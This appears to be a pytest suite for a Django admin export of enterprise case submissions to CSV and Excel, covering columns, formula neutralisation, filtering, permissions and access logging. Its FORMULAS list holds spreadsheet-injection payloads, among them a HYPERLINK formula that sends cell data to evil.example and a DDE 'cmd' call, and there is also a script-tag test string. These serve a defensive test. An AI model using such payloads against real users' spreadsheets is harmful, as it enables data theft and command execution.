"""Spreadsheets hold what enterprises typed as text that nothing runs, and each export is logged."""

import csv
import io
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import Permission, User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from policies.admin.cases.export import COLUMNS
from policies.diagnosis.models import AccessRecord, Submission
from policies.diagnosis.vocabulary import AccessKind, CaseStatus
from policies.presentation.spreadsheets import FORMULA_SIGNS, without_formula
from policies.rules.answers import Profile
from policies.vocabulary import Province
from tests.admin.cases.staff import client_of, member_of_staff

Submit = Callable[..., Submission]
Row = dict[str, Any]

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]


def export(client: Client, kind: str, query: str = "") -> bytes:
    address = reverse("admin:diagnosis_submission_export", args=[kind])
    return content_of(client.post(address + query))


def content_of(response: Any) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def sheet_of(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content)).active


def rows_of_csv(content: bytes) -> list[Row]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def rows_of_xlsx(content: bytes) -> list[Row]:
    headings, *rows = sheet_of(content).values
    return [dict(zip(headings, row, strict=True)) for row in rows]


READERS: dict[str, Callable[[bytes], list[Row]]] = {"csv": rows_of_csv, "xlsx": rows_of_xlsx}


@pytest.mark.parametrize("kind", READERS)
def test_a_row_holds_the_case_its_contact_and_its_answers(
    desk: Client, submit: Submit, kind: str
) -> None:
    profile = Profile(revenue_y1=Decimal("6200.50"), region=Province.HUBEI, listed=False)
    submission = submit(profile=profile, message="第一行\n第二行")
    [row] = READERS[kind](export(desk, kind))
    expected = {
        "编号": submission.reference,
        "企业名称": "襄阳某某精密机械有限公司",
        "结论": submission.verdict,
        "进度": "新",
        "顾问": "未分配",
        "邮件": "待发",
        "联系人": "张三",
        "电话": "13800138000",
        "邮箱": "zhang@example.com",
        "希望怎样联系": "打电话",
        "想对顾问说的话": "第一行\n第二行",
        "所在省份": "湖北",
        "没有上市": "是",
    }
    assert {name: row[name] for name in expected} == expected
    assert Decimal(row["上年度营业收入（万元）"]) == Decimal("6200.5")
    assert not row["再前一年度营业收入（万元）"]


def test_headings_are_chinese_and_distinct() -> None:
    headings = [column.heading for column in COLUMNS]
    assert len(set(headings)) == len(headings)
    assert not [heading for heading in headings if heading.isascii()]


@pytest.mark.parametrize("typed", FORMULAS)
def test_csv_puts_an_apostrophe_before_what_looks_like_a_formula(
    desk: Client, submit: Submit, typed: str
) -> None:
    submit(company_name=typed, message=typed)
    [row] = rows_of_csv(export(desk, "csv"))
    assert row["企业名称"] == row["想对顾问说的话"] == f"'{typed}"


@pytest.mark.parametrize("typed", FORMULAS)
def test_excel_holds_what_looks_like_a_formula_as_text(
    desk: Client, submit: Submit, typed: str
) -> None:
    submit(company_name=typed)
    row = sheet_of(export(desk, "xlsx"))[2]
    [cell] = [cell for cell in row if cell.value and typed.strip() in str(cell.value)]
    assert (cell.data_type, cell.number_format) == ("s", "@")


def test_no_text_cell_of_either_file_begins_like_a_formula(desk: Client, submit: Submit) -> None:
    submit(company_name="=1", contact_name="+1", phone="-1", city="@a", message="\t1")
    for row in rows_of_csv(export(desk, "csv")):
        assert not [text for text in row.values() if text.startswith(FORMULA_SIGNS)]
    sheet = sheet_of(export(desk, "xlsx"))
    assert {cell.data_type for row in sheet.rows for cell in row} <= {"s", "n"}


def test_figures_stay_figures() -> None:
    assert without_formula(Decimal(-5)) == Decimal(-5)


@pytest.mark.parametrize("kind", READERS)
def test_control_characters_markup_and_long_texts_do_not_break_a_file(
    desk: Client, submit: Submit, kind: str
) -> None:
    hostile = '<script>alert(1)</script>,";\x08' + "长" * 10_000
    submission = submit()
    Submission.objects.filter(pk=submission.pk).update(message=hostile)
    [row] = READERS[kind](export(desk, kind))
    assert row["想对顾问说的话"].replace("\x08", "") == hostile.replace("\x08", "")


@pytest.mark.parametrize("kind", READERS)
def test_an_export_holds_the_list_as_it_is_filtered_and_ordered(
    desk: Client, submit: Submit, kind: str
) -> None:
    for number in range(4):
        case = submit(key=f"{number:032}", company_name=f"企业{number}")
        status = CaseStatus.CLOSED if number == 2 else CaseStatus.NEW
        Submission.objects.filter(pk=case.pk).update(status=status)
    names = [row["企业名称"] for row in READERS[kind](export(desk, kind, "?status=new&q=企业"))]
    assert names == ["企业3", "企业1", "企业0"]
    assert READERS[kind](export(desk, kind, "?q=没有这家")) == []


@pytest.mark.parametrize("kind", READERS)
def test_what_is_ticked_is_exported_alone(desk: Client, submit: Submit, kind: str) -> None:
    wanted, _ = submit(company_name="甲公司"), submit(key="1" * 32)
    posted = {"action": f"export_{kind}", "_selected_action": [wanted.pk]}
    content = content_of(desk.post(reverse("admin:diagnosis_submission_changelist"), posted))
    assert [row["企业名称"] for row in READERS[kind](content)] == ["甲公司"]
    record = AccessRecord.objects.get()
    assert (record.kind, record.reference, record.count) == ("exported", wanted.reference, 1)


@pytest.mark.parametrize("kind", READERS)
def test_an_export_is_recorded_with_who_and_how_many(
    desk: Client, zhang: User, submit: Submit, kind: str
) -> None:
    for number in range(3):
        submit(key=f"{number:032}")
    export(desk, kind)
    record = AccessRecord.objects.get()
    assert (record.user, record.kind, record.reference, record.count) == (
        zhang,
        AccessKind.EXPORTED,
        "",
        3,
    )


def test_a_file_has_its_day_in_its_name_and_is_kept_nowhere(desk: Client, submit: Submit) -> None:
    submit()
    response = desk.post(reverse("admin:diagnosis_submission_export", args=["csv"]))
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    assert next(iter(response)).decode().startswith("\ufeff")


def test_looking_at_the_address_exports_nothing(desk: Client, submit: Submit) -> None:
    submit()
    address = reverse("admin:diagnosis_submission_export", args=["csv"])
    assert desk.get(address).status_code == 302
    assert AccessRecord.objects.count() == 0


def test_an_unknown_format_is_not_found(desk: Client) -> None:
    address = reverse("admin:diagnosis_submission_export", args=["pdf"])
    assert desk.post(address).status_code == 404


def test_a_filter_that_makes_no_sense_leads_back_to_the_list(desk: Client) -> None:
    address = reverse("admin:diagnosis_submission_export", args=["csv"])
    assert desk.post(f"{address}?nonsense=1").status_code == 302


def test_who_may_only_look_takes_nothing_away(submit: Submit) -> None:
    submit()
    onlooker = member_of_staff()
    onlooker.user_permissions.add(Permission.objects.get(codename="view_submission"))
    client = client_of(onlooker)
    listed = reverse("admin:diagnosis_submission_changelist")
    assert "导出" not in client.get(listed).content.decode()
    address = reverse("admin:diagnosis_submission_export", args=["csv"])
    assert client.post(address).status_code == 403
    assert AccessRecord.objects.count() == 0


def test_portions_cost_queries_rows_do_not(desk: Client, submit: Submit) -> None:
    submit()

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            export(desk, "csv")
        return len(captured)

    few = queries()
    for number in range(1, 50):
        submit(key=f"{number:032}")
    assert queries() == few
